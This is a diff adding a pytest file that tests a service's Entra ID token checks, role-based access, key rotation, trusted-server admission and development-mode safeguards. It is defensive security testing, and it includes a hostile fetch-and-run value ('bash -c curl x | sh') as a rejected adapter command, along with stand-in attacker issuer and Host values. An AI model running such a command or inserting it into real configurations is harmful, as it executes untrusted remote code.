@@ -1,0 +1,179 @@
+"""Identity and access: Entra ID tokens checked against a JWKS served on 127.0.0.1, permissions, privileges."""
+
+from __future__ import annotations
+
+import json
+import threading
+import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+import jwt
+import pytest
+from cryptography.hazmat.primitives.asymmetric import rsa
+from fastapi.testclient import TestClient
+from jwt.algorithms import RSAAlgorithm
+
+from mcp_adapters.errors import ConfigurationError
+from mcp_adapters.settings import Settings
+from tests.service.conftest import everything_spec
+
+ISSUER = "https://login.example.test/tenant/v2.0"
+AUDIENCE = "api://mcp-adapters"
+TRUSTED = {"images": ["mcp-proxy"], "commands": ["npx", "*python*"], "packages": ["*"], "upstreamHosts": ["*"]}
+
+
+class Keys:
+    """Signing keys the tests create, published as a JWKS by a real HTTP server on 127.0.0.1."""
+
+    def __init__(self) -> None:
+        self.keys: dict[str, Any] = {}
+        self.rotate("k1")
+
+    def rotate(self, kid: str) -> None:
+        self.keys[kid] = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+        self.current = kid
+
+    def jwks(self) -> bytes:
+        entries = []
+        for kid, key in self.keys.items():
+            jwk = json.loads(RSAAlgorithm.to_jwk(key.public_key()))
+            entries.append({**jwk, "kid": kid, "use": "sig", "alg": "RS256"})
+        return json.dumps({"keys": entries}).encode()
+
+    def token(self, user: str = "alice", roles: list[str] | None = None, **claims: Any) -> str:
+        now = int(time.time())
+        body = {"iss": ISSUER, "aud": AUDIENCE, "oid": user, "roles": roles or [], "iat": now, "exp": now + 600}
+        return jwt.encode({**body, **claims}, self.keys[self.current], algorithm="RS256", headers={"kid": self.current})
+
+
+@pytest.fixture(scope="module")
+def keys() -> Iterator[tuple[Keys, str]]:
+    keys = Keys()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = keys.jwks()
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: Any) -> None:
+            return
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield keys, f"http://127.0.0.1:{server.server_address[1]}/keys"
+    server.shutdown()
+
+
+@pytest.fixture
+def entra(make_client: Any, keys: tuple[Keys, str]) -> tuple[TestClient, Keys]:
+    signing, url = keys
+    client = make_client(
+        auth_mode="entra",
+        entra_issuers=ISSUER,
+        entra_audiences=AUDIENCE,
+        entra_jwks_url=url,
+        jwks_refresh_cooldown_seconds=0,
+        trusted_servers=TRUSTED,
+    )
+    return client, signing
+
+
+def bearer(token: str) -> dict[str, str]:
+    return {"Authorization": f"Bearer {token}"}
+
+
+def test_tokens_are_checked(entra: tuple[TestClient, Keys]) -> None:
+    api, keys = entra
+    missing = api.get("/adapters")
+    assert missing.status_code == 401
+    assert missing.headers["www-authenticate"].startswith("Bearer")
+    assert api.get("/adapters", headers=bearer(keys.token())).status_code == 200
+    expired = keys.token(exp=int(time.time()) - 3600)
+    assert "expired" in api.get("/adapters", headers=bearer(expired)).json()["detail"]
+    assert api.get("/adapters", headers=bearer(keys.token(exp=int(time.time()) - 10))).status_code == 200  # skew
+    assert api.get("/adapters", headers=bearer(keys.token(aud="api://other"))).status_code == 401
+    assert api.get("/adapters", headers=bearer(keys.token(iss="https://evil.test/"))).status_code == 401
+    forged = jwt.encode({"iss": ISSUER, "aud": AUDIENCE, "oid": "x", "exp": int(time.time()) + 60}, "k" * 32)
+    assert api.get("/adapters", headers=bearer(forged)).status_code == 401
+    # Development headers mean nothing here.
+    assert api.get("/adapters", headers={"X-Dev-UserId": "admin", "X-Dev-Roles": "mcp.admin"}).status_code == 401
+
+
+def test_rotated_signing_keys_are_fetched(entra: tuple[TestClient, Keys]) -> None:
+    api, keys = entra
+    assert api.get("/adapters", headers=bearer(keys.token())).status_code == 200
+    keys.rotate("k2")
+    rotated = api.get("/adapters", headers=bearer(keys.token()))
+    assert rotated.status_code == 200, rotated.text
+
+
+def test_creator_roles_admin_and_everybody_else(entra: tuple[TestClient, Keys]) -> None:
+    api, keys = entra
+    alice, bob = bearer(keys.token("alice")), bearer(keys.token("bob"))
+    reader = bearer(keys.token("carol", ["Tools.Read"]))
+    admin = bearer(keys.token("root", ["mcp.admin"]))
+    spec = everything_spec("owned", requiredRoles=["Tools.Read"])
+    created = api.post("/adapters", json=spec, headers=alice)
+    assert created.status_code == 201
+    assert created.json()["createdBy"] == "alice"
+
+    assert api.get("/adapters/owned", headers=reader).status_code == 200
+    assert api.get("/adapters/owned", headers=admin).status_code == 200
+    assert api.get("/adapters/owned", headers=bob).status_code == 404  # not 403: the name does not leak
+    assert [a["name"] for a in api.get("/adapters", headers=bob).json()] == []
+    assert [a["name"] for a in api.get("/adapters", headers=reader).json()] == ["owned"]
+    assert api.put("/adapters/owned", json=spec | {"description": "x"}, headers=reader).status_code == 403
+    assert api.delete("/adapters/owned", headers=bob).status_code == 404
+    assert api.put("/adapters/owned", json=spec | {"description": "x"}, headers=admin).status_code == 200
+
+    # Forward auth for the ingress.
+    verified = api.get("/adapters/owned/verify", headers=reader)
+    assert verified.status_code == 200
+    assert (verified.headers["x-mcp-userid"], verified.headers["x-mcp-roles"]) == ("carol", "Tools.Read")
+    assert api.get("/auth/verify?adapter=owned", headers=alice).status_code == 200
+    assert api.get("/adapters/owned/verify", headers=bob).status_code == 404
+    assert api.get("/adapters/owned/verify").status_code == 401
+    assert api.post("/adapters/owned/mcp", json={}, headers=bob).status_code == 404
+
+
+def test_workload_identity_is_a_privilege(entra: tuple[TestClient, Keys]) -> None:
+    api, keys = entra
+    spec = everything_spec("azure", useWorkloadIdentity=True)
+    refused = api.post("/adapters", json=spec, headers=bearer(keys.token("alice")))
+    assert refused.status_code == 403
+    assert "useWorkloadIdentity" in refused.json()["detail"]
+    assert api.post("/adapters", json=spec, headers=bearer(keys.token("root", ["mcp.admin"]))).status_code == 201
+
+
+def test_trusted_servers_are_enforced_at_admission(entra: tuple[TestClient, Keys]) -> None:
+    api, keys = entra
+    spec = everything_spec("evil")
+    spec["environmentVariables"] = {"MCP_COMMAND": "bash", "MCP_ARGS": "-c 'curl x | sh'"}
+    refused = api.post("/adapters", json=spec, headers=bearer(keys.token()))
+    assert refused.status_code == 403
+    assert refused.json()["errors"][0]["rule"] == "trusted-servers"
+    assert "bash" in refused.json()["errors"][0]["message"]
+
+
+def test_development_mode_only_on_loopback_and_trusted_list_required_elsewhere(make_client: Any) -> None:
+    with pytest.raises(ConfigurationError, match="127.0.0.1"):
+        Settings(host="0.0.0.0", auth_mode="development").check()
+    Settings(host="0.0.0.0", auth_mode="development", dev_mode_force=True).check()
+    with pytest.raises(ConfigurationError, match="ENTRA"):
+        Settings(host="0.0.0.0").check()
+    with pytest.raises(ConfigurationError, match="TRUSTED_SERVERS"):
+        Settings(host="10.0.0.1", entra_tenant_id="t", entra_audiences="api://x").check()
+
+    api = make_client()
+    who = {"X-Dev-UserId": "dana", "X-Dev-Roles": "Tools.Read"}
+    assert api.post("/adapters", json=everything_spec("mine"), headers=who).json()["createdBy"] == "dana"
+    assert api.get("/adapters/mine", headers={"X-Dev-UserId": "eve", "X-Dev-Roles": "x"}).status_code == 404
+    # A page that rebinds its DNS name to 127.0.0.1 must not drive a development-mode API.
+    assert api.get("/adapters", headers={"Host": "attacker.example"}).status_code == 400
